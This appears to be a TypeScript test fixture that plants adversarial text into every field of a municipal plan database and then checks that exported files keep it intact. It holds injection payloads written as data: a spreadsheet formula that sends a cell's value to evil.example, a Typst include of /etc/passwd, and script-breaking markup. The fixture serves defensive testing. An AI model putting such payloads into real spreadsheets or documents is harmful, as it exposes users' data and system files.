import type { Sql } from "./sql";

/**
 * What texts of a plan can hold at worst, put into every one of them: what a spreadsheet or Typst would run, what turns
 * the direction of writing, pictographs, characters that few fonts or none have. U+0000 PostgreSQL itself refuses.
 */
export const HOSTILE = {
	formula: '=HYPERLINK("https://evil.example/?a="&A1,"x")',
	typst: '#panic() $x^2$ *b* _i_ `r` \\ "q" #include "/etc/passwd" <l> @r // c /* d */ [e] = f',
	markup: "</script><b>&amp;]]>",
	direction: "\u202ecba\u202c\u200f",
	pictograph: "😀👨‍👩‍👧",
	rare: "𠮷﨑髙①Ⅳ",
	privateUse: "\ue123",
} as const;

/** Each field's text names the field, so that a text that is lost can be told. */
const textOf = (field: string) => `${Object.values(HOSTILE).join(" ")} ${tagOf(field)}`;

const tagOf = (field: string) => `‹${field}›`;

/** The texts of the plan that people write, by the table that holds them. Codes, slugs and addresses have their own rules. */
const PLAN_FIELDS: Record<string, readonly string[]> = {
	chapter: ["title", "title_en", "description", "description_en"],
	division_name: ["name", "name_en"],
	grade_wording: ["label", "label_en"],
	indicator_definition: ["name", "name_en", "unit", "unit_en", "change_reason"],
	measure: ["title", "title_en", "intended_result"],
	municipality: ["contact", "contact_en", "licence_name", "licence_name_en"],
	municipality_name: ["name", "name_en"],
	plan: ["title", "title_en", "source_title", "source_title_en"],
	policy: ["title", "title_en", "vision"],
	project: ["title", "title_en"],
	related_plan: ["title", "title_en"],
	section: ["title", "title_en"],
	source_note: ["printed", "reason", "reason_en"],
};

const REVISION_FIELDS = [
	"situation",
	"next_steps",
	"outcome",
	"foreseen_issues",
	"future_direction",
	"explanation",
] as const;

/** One without a space, and one without any place to break. */
export const LONG = { japanese: "長".repeat(10_000), latin: "W".repeat(3_000) };

/** The field in which every policy has the two long texts besides. */
const LONG_FIELD = "outcome";

/** Writes them into every text of the plan and into a correction of every published evaluation, and publishes those. */
export async function plantHostileTexts(sql: Sql): Promise<void> {
	// What an indicator is called stays as it was published: here it was called so from the beginning.
	await sql.rows("ALTER TABLE indicator_definition DISABLE TRIGGER USER");
	for (const [table, fields] of Object.entries(PLAN_FIELDS)) {
		const assignments = fields.map((field, index) => `${field} = $${index + 1}`).join(", ");
		await sql.rows(
			`UPDATE ${table} SET ${assignments}`,
			fields.map((field) => textOf(`${table}.${field}`)),
		);
	}
	await sql.rows("ALTER TABLE indicator_definition ENABLE TRIGGER USER");
	await publishCorrections(sql);
}

/** A published revision never changes; a correction has texts of its own. */
async function publishCorrections(sql: Sql): Promise<void> {
	const texts = REVISION_FIELDS.map((field) => {
		const text = textOf(`evaluation_revision.${field}`);
		return field === LONG_FIELD ? `${text}\n${LONG.japanese}\n${LONG.latin}` : text;
	});
	const revisions = await sql.rows<{ id: number }>(
		`INSERT INTO evaluation_revision (evaluation_id, number, correction, progress_grade, review_grade, measures,
			${REVISION_FIELDS.join(", ")})
		 SELECT evaluation_id, number + 1, $1, progress_grade, review_grade, jsonb_build_array(jsonb_build_object(
			'title', jsonb_build_object('ja', $2::text, 'en', $2::text), 'intendedResult', $3::text,
			'projects', jsonb_build_array(jsonb_build_object('ja', $4::text, 'en', $4::text)))),
			${REVISION_FIELDS.map((_, index) => `$${index + 5}`).join(", ")}
		 FROM evaluation_revision JOIN evaluation ON evaluation.id = evaluation_id
		 WHERE state = 'published' AND policy_id IS NOT NULL RETURNING id`,
		[textOf("correction"), textOf("measures.title"), textOf("measures.result"), textOf("measures.project"), ...texts],
	);
	const ids = revisions.map(({ id }) => id);
	await sql.rows(
		`INSERT INTO actual_value (revision_id, indicator_id, value, absence)
		 SELECT corrected.id, value.indicator_id, value.value, value.absence
		 FROM evaluation_revision AS corrected
		 JOIN evaluation_revision AS original ON original.evaluation_id = corrected.evaluation_id
			AND original.number = corrected.number - 1
		 JOIN actual_value AS value ON value.revision_id = original.id WHERE corrected.id = ANY($1)`,
		[ids],
	);
	await sql.rows("UPDATE evaluation_revision SET state = 'submitted' WHERE id = ANY($1)", [ids]);
	await sql.rows("UPDATE evaluation_revision SET state = 'approved' WHERE id = ANY($1)", [ids]);
	await sql.rows("UPDATE evaluation_revision SET state = 'published', published_at = now() WHERE id = ANY($1)", [ids]);
}

/** The fields whose texts are wanted, of those planted. `wanted` is a pattern of `table.column`. */
function fieldsLike(wanted: RegExp): string[] {
	const plan = Object.entries(PLAN_FIELDS).flatMap(([table, fields]) => fields.map((field) => `${table}.${field}`));
	const revision = REVISION_FIELDS.map((field) => `evaluation_revision.${field}`);
	return [...plan, ...revision, "correction", "measures.title", "measures.result", "measures.project"].filter((field) =>
		wanted.test(field),
	);
}

/** The wanted fields whose text is not in what a file says, white space aside; `expected` is how the file writes a part. */
export function lostTexts(said: string, wanted: RegExp, expected: (part: string) => string | null): string[] {
	const bare = withoutSpace(said);
	return fieldsLike(wanted).flatMap((field) => {
		const parts = [...Object.values(HOSTILE), tagOf(field)].flatMap((part) => expected(part) ?? []);
		// All of a field's parts stand before its tag, after the tag of whatever was written before.
		const end = bare.indexOf(withoutSpace(tagOf(field)));
		if (end < 0) return [field];
		const text = bare.slice(Math.max(0, end - MOST), end + tagOf(field).length);
		const lost = parts.filter((part) => !text.includes(withoutSpace(part)));
		return lost.map((part) => `${field}: ${part}`);
	});
}

/** More than all parts together need, however a file escapes them. */
const MOST = 1_500;

export const withoutSpace = (text: string): string => text.replace(/\s/gu, "");
